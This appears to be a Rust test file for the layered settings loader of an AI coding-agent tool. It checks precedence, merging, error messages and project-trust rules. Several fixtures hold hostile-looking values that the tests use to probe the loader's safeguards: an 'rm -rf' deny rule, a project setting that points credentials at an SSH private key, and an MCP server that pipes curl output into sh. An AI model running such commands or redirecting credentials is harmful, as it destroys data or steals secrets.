use std::fs;

use tempfile::TempDir;

use super::*;
use crate::kinds::{PermissionMode, ProviderKind};
use crate::raw::RawPermissions;
use crate::settings::WardenDirs;

/// A temporary machine: managed file, user config dir and a project with `.warden/`.
struct Fixture {
    _dir: TempDir,
    root: PathBuf,
    managed: PathBuf,
    user_dir: PathBuf,
    data_dir: PathBuf,
    home: PathBuf,
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let base = dir.path().canonicalize().unwrap();
        let root = base.join("project");
        fs::create_dir_all(root.join(".warden")).unwrap();
        Fixture {
            _dir: dir,
            managed: base.join("etc/managed.toml"),
            user_dir: base.join("config/warden"),
            data_dir: base.join("data/warden"),
            home: base.join("home"),
            root,
        }
    }

    fn path(&self, layer: Layer) -> PathBuf {
        match layer {
            Layer::Managed => self.managed.clone(),
            Layer::Local => self.root.join(".warden/settings.local.toml"),
            Layer::Project => self.root.join(".warden/settings.toml"),
            Layer::User => self.user_dir.join("settings.toml"),
            Layer::CommandLine | Layer::Remembered => unreachable!("not a settings file"),
        }
    }

    fn write(&self, layer: Layer, text: &str) -> PathBuf {
        let path = self.path(layer);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        path
    }

    /// Options with the project trusted: the layers merge as they are.
    fn options(&self) -> LoadOptions {
        LoadOptions {
            trust_project: true,
            ..self.untrusted()
        }
    }

    /// Options with the project not trusted (nothing recorded, no flag).
    fn untrusted(&self) -> LoadOptions {
        LoadOptions {
            cwd: self.root.clone(),
            cli: RawSettings::default(),
            managed_path: self.managed.clone(),
            user_config_dir: Some(self.user_dir.clone()),
            data_dir: Some(self.data_dir.clone()),
            home: Some(self.home.clone()),
            trust_project: false,
            allow_home_workspace: false,
        }
    }

    fn load(&self) -> Result<Settings, ConfigError> {
        load(&self.options())
    }

    fn untrusted_load(&self) -> Result<Settings, ConfigError> {
        load(&self.untrusted())
    }
}

fn cli(text: &str) -> RawSettings {
    parse_str(text, Path::new("<cli>")).unwrap()
}

const FILE_LAYERS: [Layer; 4] = [Layer::Managed, Layer::Local, Layer::Project, Layer::User];

#[test]
fn each_layer_beats_the_layers_below_it() {
    let fx = Fixture::new();
    for layer in FILE_LAYERS {
        fx.write(
            layer,
            &format!("[model]\ndefault = \"{}\"\n", layer.as_str()),
        );
    }
    let mut opts = fx.options();
    opts.cli = cli("[model]\ndefault = \"command_line\"\n");
    // Remove the winner each round; the next layer down must take over.
    for expected in [
        Layer::Managed,
        Layer::CommandLine,
        Layer::Local,
        Layer::Project,
        Layer::User,
    ] {
        let model = load(&opts).unwrap().model.default;
        assert_eq!(model.as_deref(), Some(expected.as_str()));
        match expected {
            Layer::CommandLine => opts.cli = RawSettings::default(),
            file => fs::remove_file(fx.path(file)).unwrap(),
        }
    }
    assert_eq!(load(&opts).unwrap().model.default, None);
}

#[test]
fn managed_file_beats_command_line_flags() {
    let fx = Fixture::new();
    fx.write(Layer::Managed, "[permissions]\nmode = \"plan\"\n");
    let mut opts = fx.options();
    opts.cli.permissions = Some(RawPermissions {
        mode: Some(PermissionMode::Auto),
        ..RawPermissions::default()
    });
    assert_eq!(load(&opts).unwrap().permissions.mode, PermissionMode::Plan);
}

#[test]
fn lists_concatenate_across_layers_highest_first_without_duplicates() {
    let fx = Fixture::new();
    fx.write(
        Layer::User,
        "[permissions]\nallow = [\"a\", \"b\", \"a\"]\n",
    );
    fx.write(Layer::Project, "[permissions]\nallow = [\"c\", \"a\"]\n");
    fx.write(Layer::Local, "[permissions]\nallow = [\"d\"]\n");
    let mut opts = fx.options();
    opts.cli = cli("[permissions]\nallow = [\"e\", \"c\"]\n");
    let settings = load(&opts).unwrap();
    assert_eq!(settings.permissions.allow, ["e", "c", "d", "a", "b"]);
}

#[test]
fn maps_merge_by_key_with_the_highest_layer_winning_each_key() {
    let fx = Fixture::new();
    fx.write(
        Layer::User,
        "[sandbox.env.set]\nA = \"user\"\nB = \"user\"\n\
         [model.providers.main]\nkind = \"openai\"\nmodel = \"m-user\"\napi_key_env = \"KEY\"\n",
    );
    fx.write(
        Layer::Project,
        "[sandbox.env.set]\nA = \"project\"\nC = \"project\"\n\
         [model.providers.main]\nmodel = \"m-project\"\n",
    );
    let settings = fx.load().unwrap();
    let set: Vec<_> = settings.sandbox.env.set.iter().collect();
    let owned = |k: &str, v: &str| (k.to_owned(), v.to_owned());
    let expected = [
        owned("A", "project"),
        owned("B", "user"),
        owned("C", "project"),
    ];
    assert_eq!(
        set,
        expected.iter().map(|(k, v)| (k, v)).collect::<Vec<_>>()
    );
    let main = &settings.model.providers["main"];
    assert_eq!(main.model, "m-project");
    assert_eq!(main.kind, ProviderKind::Openai);
    assert_eq!(main.api_key_env.as_deref(), Some("KEY"));
    assert_eq!(main.base_url, "https://api.openai.com/v1");
}

#[test]
fn nested_tables_merge_key_by_key() {
    let fx = Fixture::new();
    fx.write(Layer::User, "[sandbox.limits]\nmemory_mb = 512\npids = 8\n");
    fx.write(Layer::Project, "[sandbox.limits]\npids = 16\n");
    let limits = fx.load().unwrap().sandbox.limits;
    assert_eq!(
        (limits.memory_mb, limits.pids, limits.timeout_seconds),
        (512, 16, 120)
    );
}

#[test]
fn missing_files_are_skipped_and_give_the_defaults() {
    let fx = Fixture::new();
    let settings = fx.untrusted_load().unwrap();
    assert!(settings.sources.is_empty());
    let mut defaults = Settings::defaults(fx.root.clone());
    defaults.dirs = WardenDirs {
        config_dir: Some(fx.user_dir.clone()),
        data_dir: Some(fx.data_dir.clone()),
    };
    assert_eq!(settings, defaults);
}

#[test]
fn sources_list_the_files_read_highest_first() {
    let fx = Fixture::new();
    let user = fx.write(Layer::User, "");
    let managed = fx.write(Layer::Managed, "");
    let local = fx.write(Layer::Local, "");
    let sources = fx.load().unwrap().sources;
    let expected = [
        (Layer::Managed, managed),
        (Layer::Local, local),
        (Layer::User, user),
    ]
    .map(|(layer, path)| SettingsSource { layer, path });
    assert_eq!(sources, expected);
}

#[test]
fn project_root_is_the_nearest_ancestor_with_dot_warden_or_dot_git() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let deep = base.join("a/b/c");
    fs::create_dir_all(&deep).unwrap();
    assert_eq!(project_root(&deep), deep, "no marker: the cwd itself");

    fs::create_dir_all(base.join("a/.git")).unwrap();
    assert_eq!(project_root(&deep), base.join("a"), ".git directory");

    fs::write(base.join("a/b/.git"), "gitdir: elsewhere\n").unwrap();
    assert_eq!(
        project_root(&deep),
        base.join("a/b"),
        ".git file (worktree)"
    );

    fs::create_dir_all(deep.join(".warden")).unwrap();
    assert_eq!(project_root(&deep), deep, ".warden in the cwd itself");
}

#[test]
fn project_files_are_found_from_a_subdirectory() {
    let fx = Fixture::new();
    fx.write(Layer::Project, "[skills]\nenabled = false\n");
    let sub = fx.root.join("src/deep");
    fs::create_dir_all(&sub).unwrap();
    let mut opts = fx.options();
    opts.cwd = sub.clone();
    let settings = load(&opts).unwrap();
    assert!(!settings.skills.enabled);
    assert_eq!(
        (settings.project_root, settings.cwd),
        (fx.root.clone(), sub)
    );
}

#[test]
fn missing_working_directory_is_an_error() {
    let fx = Fixture::new();
    let mut opts = fx.options();
    opts.cwd = fx.root.join("nope");
    let err = load(&opts).unwrap_err();
    assert!(matches!(err, ConfigError::WorkingDirectory { .. }), "{err}");
}

#[test]
fn malformed_toml_names_the_file_and_line() {
    let fx = Fixture::new();
    let path = fx.write(Layer::Project, "[sandbox]\nenabled = true\nbackend = \"x\n");
    let err = fx.load().unwrap_err();
    let ConfigError::Syntax { path: at, line, .. } = &err else {
        panic!("expected a syntax error, got {err}");
    };
    assert_eq!((at, *line), (&path, Some(3)));
    assert!(
        err.to_string()
            .starts_with(&format!("{}:3:", path.display())),
        "{err}"
    );
}

#[test]
fn wrong_type_names_the_dotted_key_line_and_column() {
    let fx = Fixture::new();
    let path = fx.write(Layer::User, "[sandbox.limits]\ntimeout_seconds = \"x\"\n");
    let err = fx.load().unwrap_err();
    let expected = format!(
        "{}:2:19: sandbox.limits.timeout_seconds: invalid type: string \"x\", expected u64",
        path.display()
    );
    assert_eq!(err.to_string(), expected);
}

#[test]
fn unknown_key_is_an_error_naming_the_key() {
    let fx = Fixture::new();
    let path = fx.write(Layer::Local, "[sandbox]\nenabled = true\nbakend = \"x\"\n");
    let err = fx.load().unwrap_err();
    let ConfigError::Key { key, line, .. } = &err else {
        panic!("expected a key error, got {err}");
    };
    assert_eq!((key.as_str(), *line), ("sandbox.bakend", Some(3)));
    let message = err.to_string();
    assert!(message.starts_with(&format!(
        "{}:3:1: sandbox.bakend: unknown field",
        path.display()
    )));
}

#[test]
fn org_table_outside_the_managed_file_is_refused() {
    let fx = Fixture::new();
    let path = fx.write(
        Layer::User,
        "[skills]\nenabled = true\n\n[org]\nrequire_sandbox = false\n",
    );
    let err = fx.load().unwrap_err();
    assert!(
        matches!(err, ConfigError::OrgOutsideManaged { .. }),
        "{err}"
    );
    assert!(
        err.to_string()
            .starts_with(&format!("{}:4:1: org:", path.display())),
        "{err}"
    );
    let mut opts = fx.options();
    opts.cli = cli("org.require_sandbox = true\n");
    let err = load(&opts).unwrap_err().to_string();
    assert!(err.starts_with("command line: org:"), "{err}");
}

#[test]
fn org_table_in_a_project_file_is_set_aside_even_when_trusted() {
    for layer in [Layer::Local, Layer::Project] {
        let fx = Fixture::new();
        let path = fx.write(
            layer,
            "[skills]\nenabled = true\n\n[org]\ndisable_bypass_mode = true\n",
        );
        let settings = fx.load().unwrap();
        assert!(!settings.org.disable_bypass_mode);
        let ignored = &settings.trust.ignored;
        assert_eq!(ignored.len(), 1, "{ignored:?}");
        assert_eq!((&ignored[0].file, ignored[0].line), (&path, Some(5)));
        assert_eq!(ignored[0].key, "org.disable_bypass_mode");
    }
}

#[test]
fn org_table_in_the_managed_file_applies() {
    let fx = Fixture::new();
    fx.write(
        Layer::Managed,
        "[org]\nallowed_modes = [\"plan\", \"default\"]\n",
    );
    let org = fx.load().unwrap().org;
    assert_eq!(
        org.allowed_modes,
        [PermissionMode::Plan, PermissionMode::Default]
    );
}

#[test]
fn hooks_of_every_layer_run_each_with_its_file_unless_the_managed_file_keeps_its_own() {
    let fx = Fixture::new();
    let managed = fx.write(
        Layer::Managed,
        "[[hooks.PreToolUse]]\nmatcher = \"Bash\"\ncommand = \"managed-check\"\n",
    );
    let user = fx.write(
        Layer::User,
        "[[hooks.PreToolUse]]\ncommand = \"my-check\"\ntimeout_seconds = 5\n",
    );
    let hooks = fx.load().unwrap().hooks.hooks;
    let found: Vec<(&str, Option<&PathBuf>)> = hooks
        .iter()
        .map(|h| (h.command.as_str(), h.source.as_ref()))
        .collect();
    assert_eq!(
        found,
        [("managed-check", Some(&managed)), ("my-check", Some(&user))]
    );
    assert_eq!(hooks[1].timeout_seconds, 5);
    fx.write(
        Layer::Managed,
        "[org]\nmanaged_hooks_only = true\n\n[[hooks.PreToolUse]]\nmatcher = \"Bash\"\ncommand = \"managed-check\"\n",
    );
    let hooks = fx.load().unwrap().hooks.hooks;
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0].command, "managed-check");
    // A matcher that is not a regular expression is a settings error, naming the key.
    fx.write(
        Layer::User,
        "[[hooks.PreToolUse]]\nmatcher = \"Bash(\"\ncommand = \"x\"\n",
    );
    let err = fx.load().unwrap_err().to_string();
    assert!(err.contains("matcher"), "{err}");
}

#[test]
fn a_full_file_parses() {
    let text = r#"
        [permissions]
        mode = "accept-edits"
        deny = ["Bash(rm -rf:*)"]
        [sandbox]
        profile = "read-only"
        [sandbox.network]
        mode = "allowlist"
        allowed_domains = ["crates.io"]
        [sandbox.env.set]
        CARGO_TERM_COLOR = "never"
        [tools.grep]
        max_hits = 50
        [model]
        default = "main"
        [model.prices."gpt-x"]
        input_per_mtok = 1.25
        output_per_mtok = 10.0
        [budgets]
        max_cost_usd = 2.5
        [context]
        tool_output_tokens = 8000
        [skills]
        roots = ["~/skills"]
    "#;
    let raw = parse_str(text, Path::new("full.toml")).unwrap();
    let permissions = raw.permissions.unwrap_or_default();
    assert_eq!(permissions.mode, Some(PermissionMode::AcceptEdits));
}

#[test]
fn a_project_cannot_trust_its_own_skills() {
    for layer in [Layer::Local, Layer::Project] {
        let fx = Fixture::new();
        let path = fx.write(
            layer,
            "[skills]\nroots = [\"s\"]\ntrusted_roots = [\"s\"]\n",
        );
        // Not even a trusted project.
        let settings = fx.load().unwrap();
        assert!(settings.skills.trusted_roots.is_empty());
        assert_eq!(settings.skills.roots, ["s"]);
        let ignored = &settings.trust.ignored;
        assert_eq!(ignored.len(), 1, "{ignored:?}");
        assert_eq!(
            ignored[0].to_string(),
            format!(
                "{}:3: skills.trusted_roots = s (a skill directory loaded without approval): \
                 not applied: only the user's settings and the managed file may set it",
                path.display()
            )
        );
    }
    for layer in [Layer::User, Layer::Managed] {
        let fx = Fixture::new();
        fx.write(layer, "[skills]\ntrusted_roots = [\"vendor/skills\"]\n");
        let settings = fx.load().unwrap();
        assert_eq!(settings.skills.trusted_roots, ["vendor/skills"]);
    }
}

#[test]
fn a_project_cannot_name_the_credentials_file_or_the_runs_dir() {
    for layer in [Layer::Local, Layer::Project] {
        let fx = Fixture::new();
        let path = fx.write(
            layer,
            "[manifest]\nlease_seconds = 5\ncredentials_file = \"/home/u/.ssh/id_rsa\"\n\
             runs_dir = \"/home/u\"\n",
        );
        let settings = fx.load().unwrap();
        assert_eq!(settings.manifest.credentials_file, None);
        assert_eq!(settings.manifest.runs_dir, None);
        assert_eq!(settings.manifest.lease_seconds, 5);
        let at: Vec<_> = settings
            .trust
            .ignored
            .iter()
            .map(|i| (i.key.as_str(), i.line, &i.file))
            .collect();
        assert_eq!(
            at,
            [
                ("manifest.credentials_file", Some(3), &path),
                ("manifest.runs_dir", Some(4), &path)
            ]
        );
    }
    for layer in [Layer::User, Layer::Managed] {
        let fx = Fixture::new();
        fx.write(
            layer,
            "[manifest]\ncredentials_file = \"~/.config/warden/credentials.toml\"\n",
        );
        let settings = fx.load().unwrap();
        assert_eq!(
            settings.manifest.credentials_file.as_deref(),
            Some("~/.config/warden/credentials.toml")
        );
        assert_eq!(settings.manifest.lease_seconds, 30);
    }
}

#[test]
fn a_named_choice_outside_its_set_is_refused_by_name_where_it_is_written() {
    for (text, key, expected) in [
        (
            "[sandbox.network]\nmode = \"everywhere\"\n",
            "sandbox.network.mode",
            "`off`, `allowlist`, `on`",
        ),
        (
            "[sandbox]\nbackend = \"docker\"\n",
            "sandbox.backend",
            "`auto`, `native`, `bwrap`",
        ),
        (
            "[sandbox]\nprofile = \"write-all\"\n",
            "sandbox.profile",
            "`read-only`, `workspace-write`, `full-isolated`",
        ),
        (
            "[sandbox]\nroot_identity = \"root\"\n",
            "sandbox.root_identity",
            "`unprivileged` or `host`",
        ),
        (
            "[sandbox.limits]\nfallback = \"ulimit\"\n",
            "sandbox.limits.fallback",
            "`none` or `rlimits`",
        ),
    ] {
        let err = crate::parse_str(text, Path::new("/p/settings.toml"))
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("/p/settings.toml:2:") && err.contains(key) && err.contains(expected),
            "{err}"
        );
    }
    // Each name in its set is read as the value it names.
    let raw = crate::parse_str(
        "[sandbox]\nbackend = \"bwrap\"\nprofile = \"read-only\"\n\n[sandbox.network]\nmode = \"allowlist\"\n",
        Path::new("/p/settings.toml"),
    )
    .unwrap();
    let sandbox = raw.sandbox.unwrap();
    assert_eq!(sandbox.backend, Some(crate::Backend::Bwrap));
    assert_eq!(sandbox.profile, Some(crate::Profile::ReadOnly));
    assert_eq!(
        sandbox.network.unwrap().mode,
        Some(crate::NetworkMode::Allowlist)
    );
}

#[test]
fn a_project_s_mcp_json_servers_stand_only_once_it_is_trusted_and_the_trust_covers_them() {
    let fx = Fixture::new();
    let dot_mcp = fx.root.join(".mcp.json");
    fs::write(
        &dot_mcp,
        r#"{"mcpServers": {
            "fs": {"command": "npx", "args": ["-y", "@m/fs"], "env": {"TOKEN": "${TOKEN}"}},
            "web": {"type": "http", "url": "https://x.example/mcp"},
            "old": {"type": "sse", "url": "https://x.example/sse"},
            "bad.name": {"command": "x"}
        }}"#,
    )
    .unwrap();
    // Untrusted: set aside, and said.
    let untrusted = fx.untrusted_load().unwrap();
    assert!(untrusted.mcp.servers.is_empty());
    assert!(
        untrusted
            .trust
            .ignored
            .iter()
            .any(|i| i.to_string().contains(".mcp.json") && i.to_string().contains("mcp.servers")),
        "{:?}",
        untrusted.trust.ignored
    );
    // Trusted: the servers warden can run, in its own terms.
    let trusted = fx.load().unwrap();
    let names: Vec<&String> = trusted.mcp.servers.keys().collect();
    assert_eq!(names, ["fs", "old", "web"]);
    assert_eq!(
        trusted.mcp.servers["old"].transport,
        crate::settings::HttpTransport::Sse
    );
    assert_eq!(trusted.mcp.servers["fs"].env_vars, ["TOKEN"]);
    assert!(trusted.mcp.servers["fs"].sandbox);
    assert_eq!(
        trusted.mcp.servers["web"].url.as_deref(),
        Some("https://x.example/mcp")
    );
    // The trust is bound to what the file grants: another server is another digest.
    let before = untrusted.trust.digest.clone();
    fs::write(
        &dot_mcp,
        r#"{"mcpServers": {"fs": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#,
    )
    .unwrap();
    assert_ne!(fx.untrusted_load().unwrap().trust.digest, before);
    // A file that is not JSON is an error naming it.
    fs::write(&dot_mcp, "{ not json").unwrap();
    let error = fx.untrusted_load().unwrap_err().to_string();
    assert!(error.contains(".mcp.json"), "{error}");
}
